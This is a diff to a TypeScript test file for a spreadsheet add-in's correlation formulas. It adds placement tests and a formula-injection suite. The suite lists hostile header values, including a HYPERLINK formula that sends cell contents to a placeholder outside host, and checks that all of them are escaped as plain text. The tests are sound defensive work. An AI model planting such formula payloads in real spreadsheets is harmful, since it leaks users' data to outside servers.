@@ -5,6 +5,7 @@
  * tables").
  */
 import { parseAddress } from '../../../src/sheet/a1';
+import { Entry, isFormulaEntry, shownText } from '../../../src/sheet/entries';
 import { allBlank, columnReference, escapeColumnName, formulaBlock, formulaPlaces, reportSheetCells, ColumnRef } from '../../../taskpane/sheet-output';
 
 const block = (a: string) => parseAddress(a)![0];
@@ -36,10 +37,11 @@ describe('formula block', () => {
     expect(cells[3][1]).toBe('=COVARY.PVALUE($B$2:$B$49, $C$2:$C$49, "both", "spearman")');
     expect(cells[4][1]).toBe('=COVARY.PAIRS($B$2:$B$49, $C$2:$C$49)');
     expect(cells[5][1]).toBe('=COVARY.FLAGS($B$2:$B$49, $C$2:$C$49, 0.05)');
-    expect(cells[2][0]).toBe('90% interval (lower, upper)');
+    expect(shownText(cells[2][0])).toBe('90% interval (lower, upper)');
   });
   test('header text is written as plain cell text (never a formula)', () => {
-    expect(cells[0][0].startsWith('=')).toBe(false);
+    expect(isFormulaEntry(cells[0][0])).toBe(false);
+    expect(shownText(cells[0][0])).toBe('Covary: Sales "net" against Visits');
   });
   test('places start two columns right of the data, at the header row, moving right', () => {
     const places = formulaPlaces([block('Staff!B2:B49'), block('Staff!C2:C49')], 3);
@@ -55,9 +57,39 @@ describe('report sheet', () => {
   test('REPORT and CHECKS formulas with sheet-qualified references, rectangular', () => {
     const rows = reportSheetCells(rangeRef("'North branch'!B2:B49"), rangeRef("'North branch'!C2:C49"), { x: 'Visits', y: 'Sales' }, { method: 'pearson', level: 0.95, alpha: 0.05 }, new Date(Date.UTC(2024, 4, 1, 9, 30)));
     expect(new Set(rows.map((r) => r.length)).size).toBe(1);
-    const last = rows[rows.length - 1];
-    expect(last[0]).toBe("=COVARY.REPORT('North branch'!$B$2:$B$49, 'North branch'!$C$2:$C$49, 0.95, \"pearson\")");
-    expect(last[3]).toBe("=COVARY.CHECKS('North branch'!$B$2:$B$49, 'North branch'!$C$2:$C$49, 0.05)");
-    expect(rows[3][1]).toBe('2024-05-01 09:30 UTC');
+    const formulas = rows.flat().filter(isFormulaEntry);
+    expect(formulas).toEqual([
+      "=COVARY.REPORT('North branch'!$B$2:$B$49, 'North branch'!$C$2:$C$49, 0.95, \"pearson\")",
+      "=COVARY.CHECKS('North branch'!$B$2:$B$49, 'North branch'!$C$2:$C$49, 0.05)",
+      "=COVARY.SENSITIVITY('North branch'!$B$2:$B$49, 'North branch'!$C$2:$C$49, 0.95, \"pearson\")",
+    ]);
+    expect(shownText(rows[3][1])).toBe('2024-05-01 09:30 UTC');
+  });
+  test('SENSITIVITY sits below the eight checks, clear of the CHECKS spill', () => {
+    const rows = reportSheetCells(rangeRef('S!B2:B49'), rangeRef('S!C2:C49'), { x: 'Visits', y: 'Sales' }, { method: 'pearson', level: 0.95, alpha: 0.05 }, new Date(0));
+    const checksRow = rows.findIndex((r) => String(r[3]).startsWith('=COVARY.CHECKS'));
+    const sensitivityRow = rows.findIndex((r) => String(r[3]).startsWith('=COVARY.SENSITIVITY'));
+    expect(sensitivityRow - checksRow).toBeGreaterThan(9); // CHECKS spills a header and eight rows
+    for (let i = checksRow + 1; i < checksRow + 9; i++) expect(rows[i][3]).toBe('');
+  });
+});
+
+/**
+ * Formula injection: a header is the sheet's text and must come back as the same text, never as a formula, a
+ * number or a function call, whatever it begins with (the characters spreadsheets treat as the start of a
+ * formula: = + - @, and the tab / carriage return that some hosts strip before them).
+ */
+describe('headers are never formulas', () => {
+  const hostile = ['=HYPERLINK("http://example.invalid/?"&A1,"x")', '+1+1', '-2+3', '@SUM(A1)', '\t=1+1', "'=quoted", '1-2'];
+  const everyEntry = (x: string, y: string): Entry[] => [
+    ...formulaBlock(rangeRef('S!B2:B9'), rangeRef('S!C2:C9'), { x, y }, 'S', { method: 'pearson', level: 0.95, alpha: 0.05 }).flat(),
+    ...reportSheetCells(rangeRef('S!B2:B9'), rangeRef('S!C2:C9'), { x, y }, { method: 'pearson', level: 0.95, alpha: 0.05 }, new Date(0)).flat(),
+  ];
+  test.each(hostile)('%s', (h) => {
+    const entries = everyEntry(h, h);
+    for (const e of entries.filter(isFormulaEntry)) expect(String(e)).toMatch(/^=COVARY\.[A-Z_]+\(S!\$B\$2:\$B\$9, S!\$C\$2:\$C\$9|^=COVARY\.[A-Z_]+\(\$B\$2:\$B\$9, \$C\$2:\$C\$9/);
+    const texts = entries.filter((e) => !isFormulaEntry(e) && e !== '');
+    for (const e of texts) expect(String(e).startsWith("'")).toBe(true);
+    expect(texts.map(shownText).some((t) => String(t).includes(h))).toBe(true);
   });
 });
